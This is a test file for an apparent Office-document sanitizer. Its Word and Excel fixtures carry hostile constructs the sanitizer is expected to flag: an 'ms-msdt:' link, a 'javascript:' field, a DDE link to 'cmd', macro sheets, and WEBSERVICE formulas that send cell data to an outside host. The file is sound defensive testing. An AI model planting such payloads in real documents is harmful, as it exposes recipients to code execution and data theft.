/** Office files in which something is called what it is not, stands where nobody looks, or is many. */
import { unzipSync, zipSync } from 'fflate'
import { describe, expect, it } from 'vitest'
import { cleanOffice } from '../../src/media/child/cleanOffice.ts'
import { docxOf, relation, xlsxOf } from '../support/office.ts'

const field = (code: string): string => `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${code}</w:instrText></w:r></w:p>`

describe('what was called otherwise', () => {
  const links = async (bytes: Buffer): Promise<unknown> => cleanOffice(bytes).then((answer) => ('lienKet' in answer ? answer.lienKet : answer))
  const run = (code: string): string => `<w:r><w:instrText>${code}</w:instrText></w:r>`
  const mark = (type: string): string => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`
  it.each<[string, Buffer, unknown]>([
    ['a field with an anchor leads where it leads', docxOf({ body: field('HYPERLINK "https://x.example/a" \\l "b"') }), ['https://x.example/a']],
    ['whatever stands first', docxOf({ body: field('HYPERLINK \\l "b" "https://x.example/a"') }), ['https://x.example/a']],
    ['an anchor alone leads nowhere', docxOf({ body: field('HYPERLINK \\l "b"') }), []],
    ['another scheme', docxOf({ body: field('HYPERLINK "ms-msdt:/id Diag" \\l "a"') }), { badLink: 'ms-msdt:/id Diag' }],
    ['a script in a simple field', docxOf({ body: '<w:fldSimple w:instr="HYPERLINK javascript:alert(1) \\l a"/>' }), { badLink: 'javascript:alert(1)' }],
    [
      'a field in the words of a link',
      docxOf({ body: mark('begin') + run('HYPERLINK ') + mark('begin') + run('QUOTE "file://x"') + mark('end') + mark('end') }),
      { fault: 'field' },
    ],
    [
      'a field whose name a field says',
      docxOf({ body: mark('begin') + mark('begin') + run('QUOTE HYPERLINK') + mark('end') + run(' "http://x"') + mark('end') }),
      { fault: 'field' },
    ],
    [
      'a list of contents with its links',
      docxOf({
        body: mark('begin') + run('TOC \\o') + mark('separate') + mark('begin') + run('HYPERLINK \\l "_Toc1"') + mark('separate') + mark('end') + mark('end'),
      }),
      [],
    ],
    [
      'a picture fetched by a link',
      docxOf({ rels: relation('rId3', 'hyperlink', 'https://x.example/a.png', true), body: '<a:blip r:link="rId3"/>' }),
      { fault: 'external' },
    ],
    ['a fraction', docxOf({ body: '<m:oMath><m:f><m:num><m:r><m:t>1</m:t></m:r></m:num><m:den><m:r><m:t>2</m:t></m:r></m:den></m:f></m:oMath>' }), []],
    ['another document', docxOf({ body: '<w:subDoc r:id="rId3"/>' }), { fault: 'embedded' }],
    ['hidden under a prefix of its own', docxOf({ body: '<q:vanish w:val="0" q:val="1"/>' }), { fault: 'hidden' }],
    ['hidden switched off is not written', docxOf({ body: '<w:vanish w:val="0"/>' }), []],
    [
      'a name that says one thing and a part that is another',
      xlsxOf({ more: { 'xl/styles.xml': '<connections><dbPr/></connections>' } }),
      { fault: 'unknown' },
    ],
  ])('%s', async (_what, bytes, expected) =>
    expect(await links(bytes)).toEqual(Array.isArray(expected) ? expected : expect.objectContaining(expected as object)),
  )

  const excel = (rels: string, more: Record<string, string>): Buffer => {
    const parts = unzipSync(xlsxOf())
    const own = Buffer.from(parts['xl/_rels/workbook.xml.rels']!).toString().replace('</Relationships>', `${rels}</Relationships>`)
    return Buffer.from(zipSync({ ...parts, 'xl/_rels/workbook.xml.rels': Buffer.from(own), ...Object.fromEntries(Object.entries(more).map(([name, text]) => [name, Buffer.from(text)])) })) // prettier-ignore
  }
  it.each<[string, Buffer, unknown]>([
    ['connections', excel(relation('rId7', 'connections', 'x.xml'), { 'xl/x.xml': '<connections/>' }), { fault: 'external' }],
    [
      'a link to another book',
      excel(relation('rId7', 'externalLink', 'x.xml'), { 'xl/x.xml': '<externalLink><ddeLink ddeService="cmd"/></externalLink>' }),
      { fault: 'external' },
    ],
    ['a sheet of macros', excel(relation('rId7', 'xlMacrosheet', 'x.xml'), { 'xl/x.xml': '<macrosheet/>' }), { fault: 'macro' }],
    ['remarks', excel(relation('rId7', 'comments', 'x.xml'), { 'xl/x.xml': '<comments/>' }), { fault: 'comments' }],
    [
      'a sheet nobody can turn to',
      excel(relation('rId7', 'worksheet', 'worksheets/sheet2.xml'), { 'xl/worksheets/sheet2.xml': '<worksheet/>' }),
      { fault: 'hidden' },
    ],
    [
      'a link to another book, called styles',
      excel(relation('rId7', 'styles', 'x.xml'), { 'xl/x.xml': '<externalLink><ddeLink ddeService="cmd"/></externalLink>' }),
      { fault: 'unknown' },
    ],
    ['one part that is two things', excel(relation('rId7', 'styles', 'worksheets/sheet1.xml'), {}), { fault: 'unknown' }],
    ['what nobody knows', excel(relation('rId7', 'something', 'x.xml'), { 'xl/x.xml': '<x/>' }), { fault: 'unknown' }],
    ['what is of no use is left out', excel(relation('rId7', 'calcChain', 'x.xml'), { 'xl/x.xml': '<calcChain/>' }), []],
    ['metadata of arrays that spill', excel(relation('rId7', 'sheetMetadata', 'metadata.xml'), { 'xl/metadata.xml': '<metadata/>' }), []],
    ['pictures in cells', excel(relation('rId7', 'rdRichValue', 'x.xml'), { 'xl/x.xml': '<rvData/>' }), { fault: 'picture' }],
    ['choices from another sheet', xlsxOf({ rows: '</sheetData><x14:formula1><xm:f>S!$A$1:$A$3</xm:f></x14:formula1><sheetData>' }), []],
    ['choices fetched', xlsxOf({ rows: '</sheetData><x14:formula1><xm:f>WEBSERVICE("http://x/")</xm:f></x14:formula1><sheetData>' }), { fault: 'formula' }],
    [
      'a drawing behind a hidden column that is empty',
      xlsxOf({ before: '<cols><col min="1" max="1" hidden="1"/></cols>', cells: '<c r="A1"/>', rows: '</sheetData><xm:f>S!A1</xm:f><sheetData>' }),
      [],
    ],
    ['a cell that says not where it stands', xlsxOf({ rows: '<row r="2" hidden="1"><c><v>9</v></c></row>' }), { fault: 'hidden' }],
    [
      'the second cell of a hidden column',
      xlsxOf({ before: '<cols><col min="2" max="2" hidden="1"/></cols>', rows: '<row><c><v>1</v></c><c><v>9</v></c></row>' }),
      { fault: 'hidden' },
    ],
    ['an odd place', xlsxOf({ cells: '<c r="$A2"><v>9</v></c>' }), { fault: 'unknown' }],
    ['a column of no width', xlsxOf({ before: '<cols><col min="1" max="1" width="0.10"/></cols>' }), { fault: 'hidden' }],
    ['a row of no height', xlsxOf({ rows: '<row r="2" ht="0.0"><c r="A2"><v>9</v></c></row>' }), { fault: 'hidden' }],
    ['rows hidden all at once', xlsxOf({ before: '<sheetFormatPr zeroHeight="1"/>' }), { fault: 'hidden' }],
    ['a state with a blank', xlsxOf({ sheets: '<sheet name="A" sheetId="1" r:id="rId1" state="hidden "/>' }), { fault: 'hidden' }],
    ['behind a column name', xlsxOf({ cells: '<c><f>T[x\'#]&amp;WEBSERVICE("http://x/"&amp;B1)&amp;T[x\'#]</f></c>' }), { fault: 'formula' }],
    ['handed on by its name', xlsxOf({ cells: '<c><f>MAP(B1,_xleta.WEBSERVICE)</f></c>' }), { fault: 'formula' }],
    ['a link handed on', xlsxOf({ cells: '<c><f>MAP(B1,_xleta.HYPERLINK)</f></c>' }), { fault: 'formula' }],
    ['a word in a text, a sheet and a table', xlsxOf({ cells: '<c><f>"CALL("&amp;Image!A1&amp;\'RTD a\'!B2&amp;T[CALL]</f></c>' }), []],
  ])('%s', async (_what, bytes, expected) =>
    expect(await links(bytes)).toEqual(Array.isArray(expected) ? expected : expect.objectContaining(expected as object)),
  )

  it('what is hidden is told by its place', async () => {
    const cho = async (bytes: Buffer): Promise<unknown> => (await cleanOffice(bytes)) as { cho?: string }
    const column = xlsxOf({ before: '<cols><col min="28" max="28" hidden="1"/></cols>', cells: '<c r="AB1"><v>9</v></c>' })
    expect(await cho(column)).toEqual({ fault: 'hidden', cho: 'cột AB' })
    expect(await cho(xlsxOf({ rows: '<row r="7" hidden="1"><c r="A7"><v>9</v></c></row>' }))).toEqual({ fault: 'hidden', cho: 'hàng 7' })
    expect(await cho(xlsxOf({ sheets: '<sheet name="Hộ nghèo" sheetId="1" r:id="rId1" state="hidden"/>' }))).toEqual({
      fault: 'hidden',
      cho: 'trang tính “Hộ nghèo”',
    })
  })

  it('many columns, cells, elements and texts are read in their time or refused', async () => {
    const columns = xlsxOf({ before: `<cols>${'<col min="1" max="16384" hidden="1"/>'.repeat(16_000)}</cols>`, cells: '<c/>'.repeat(400_000) })
    const from = performance.now()
    expect(await cleanOffice(columns)).toHaveProperty('bytes')
    expect(await cleanOffice(docxOf({ body: '<w:r/>'.repeat(4_000_000) }))).toEqual({ refused: 'OFFICE_TOO_LARGE' })
    expect(await cleanOffice(docxOf({ body: `<w:t>${'&amp;'.repeat(4_500_000)}</w:t>` }))).toEqual({ refused: 'OFFICE_TOO_LARGE' })
    // What grows with its square takes minutes.
    expect(performance.now() - from).toBeLessThan(60_000)
  }, 120_000)
})
